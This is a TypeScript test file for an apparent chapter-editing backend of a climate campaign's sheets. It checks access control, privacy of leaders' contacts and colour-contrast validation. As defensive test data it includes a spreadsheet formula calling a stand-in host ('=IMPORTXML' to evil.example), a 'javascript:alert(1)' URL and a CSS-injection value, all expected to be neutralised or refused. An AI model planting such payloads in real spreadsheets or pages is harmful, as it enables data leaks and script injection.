/**
 * A chapter's lead edits their hub through Code.gs: the chapter's row in the public sheet changes (in the columns
 * the widgets read, whatever their language), a public read shows it, another chapter is refused, leaders' emails
 * go to the private spreadsheet only, and colours that would vanish are refused in words a lead can act on.
 */
import { describe, it, beforeEach } from 'node:test';
import assert from 'node:assert/strict';
import { campaign, type Campaign } from './campaign.ts';

let app: Campaign;
beforeEach(() => (app = campaign()));

const edit = (token: string | undefined, id: string, change: Record<string, unknown>) => app.post({ action: 'edit-chapter', ...(token ? { token } : {}), id, change }) as { ok: boolean; status?: number; error?: string; chapter?: Record<string, unknown> };
const lyon = () => app.get({ collection: 'chapters', chapter: 'lyon' }).items![0]!;
const everything = () => JSON.stringify(app.gas.book.tab('chapters').cells);

describe('a chapter lead editing their hub in the sheet', () => {
  it('changes their chapter’s row, and the public read shows it', () => {
    const answer = edit(app.lyonLead, 'lyon', {
      name: 'Vague Climat Lyon & Villeurbanne',
      slogan: 'Le climat, ici et maintenant',
      color: '#7a1f5c',
      accent: '#ffd54f',
      links: [{ label: 'Instagram', url: 'https://instagram.com/vagueclimatlyon' }],
      logo: 'https://vagueclimat.example.org/logos/lyon.png',
    });
    assert.equal(answer.ok, true, answer.error);
    assert.deepEqual(
      { name: answer.chapter!.name, slogan: answer.chapter!.slogan, color: answer.chapter!.color, accent: answer.chapter!.accent },
      { name: 'Vague Climat Lyon & Villeurbanne', slogan: 'Le climat, ici et maintenant', color: '#7a1f5c', accent: '#ffd54f' },
    );
    const read = lyon();
    assert.equal(read.name, 'Vague Climat Lyon & Villeurbanne');
    assert.equal(read.color, '#7a1f5c');
    assert.deepEqual(read.links, JSON.stringify([{ label: 'Instagram', url: 'https://instagram.com/vagueclimatlyon' }]));
    assert.equal(read.logo, 'https://vagueclimat.example.org/logos/lyon.png');
    // The same column, not a second one: the sheet keeps one "color" header.
    assert.equal(app.gas.book.tab('chapters').cells[0]!.filter((h) => h === 'color').length, 1);
    const log = app.private.tab('access_log').cells.at(-1)!;
    assert.deepEqual([log[1], log[3], log[4]], ['Amina (Lyon)', 'edit', 'chapters']);
  });

  it('writes into a French header the widgets read, and neutralises a formula', () => {
    const sheet = app.gas.book.tab('chapters');
    sheet.cells[0]![sheet.cells[0]!.indexOf('color')] = 'Couleur principale';
    assert.equal(edit(app.lyonLead, 'lyon', { color: '#123456', slogan: '=IMPORTXML("https://evil.example")' }).ok, true);
    assert.equal(sheet.cells[1]![sheet.cells[0]!.indexOf('Couleur principale')], '#123456');
    assert.match(String(sheet.cells[1]![sheet.cells[0]!.indexOf('slogan')]), /^'=IMPORTXML/);
  });

  it('keeps leaders’ emails out of the public sheet', () => {
    const answer = edit(app.lyonLead, 'lyon', { leaders: [{ name: 'Amina K.', role: 'coordinatrice', email: 'amina.new@example.org', phone: '06 12 00 00 01' }] });
    assert.equal(answer.ok, true, answer.error);
    assert.doesNotMatch(everything(), /amina\.new@example\.org|06 12 00 00 01/);
    assert.deepEqual(lyon().leaders, [{ name: 'Amina K.', role: 'coordinatrice' }]);
    assert.match(JSON.stringify(app.private.tab('leader_contacts').cells), /amina\.new@example\.org/);
  });

  it('cannot change another chapter, nor without a token', () => {
    const before = everything();
    const other = edit(app.lyonLead, 'paris', { name: 'Taken over' });
    assert.deepEqual([other.ok, other.status], [false, 403]);
    assert.match(other.error!, /for the chapter lyon only/);
    const none = edit(undefined, 'lyon', { name: 'Anyone' });
    assert.deepEqual([none.ok, none.status], [false, 401]);
    assert.equal(everything(), before);
    assert.equal(edit(app.staff, 'paris', { slogan: 'Staff may' }).ok, true);
  });

  it('refuses colours that would vanish, and fields it does not know, saying why', () => {
    const before = everything();
    const white = edit(app.lyonLead, 'lyon', { color: '#ffffff' });
    assert.deepEqual([white.ok, white.status], [false, 422]);
    assert.match(white.error!, /^color: #ffffff has a contrast of 1:1 with a white page; the header band and the buttons it fills need 3:1\. Choose a darker colour\.$/);
    const close = edit(app.lyonLead, 'lyon', { accent: '#c2185c' });
    assert.match(close.error!, /^accent: #c2185c has a contrast of 1(\.\d+)?:1 with the brand colour/);
    assert.match(edit(app.lyonLead, 'lyon', { region: 'Elsewhere' }).error!, /not region/);
    assert.match(edit(app.lyonLead, 'lyon', { color: 'red; x' }).error!, /color should be a colour written #rgb or #rrggbb/);
    assert.match(edit(app.lyonLead, 'lyon', { website: 'javascript:alert(1)' }).error!, /website should be an address starting with https:\/\//);
    assert.equal(everything(), before);
  });
});
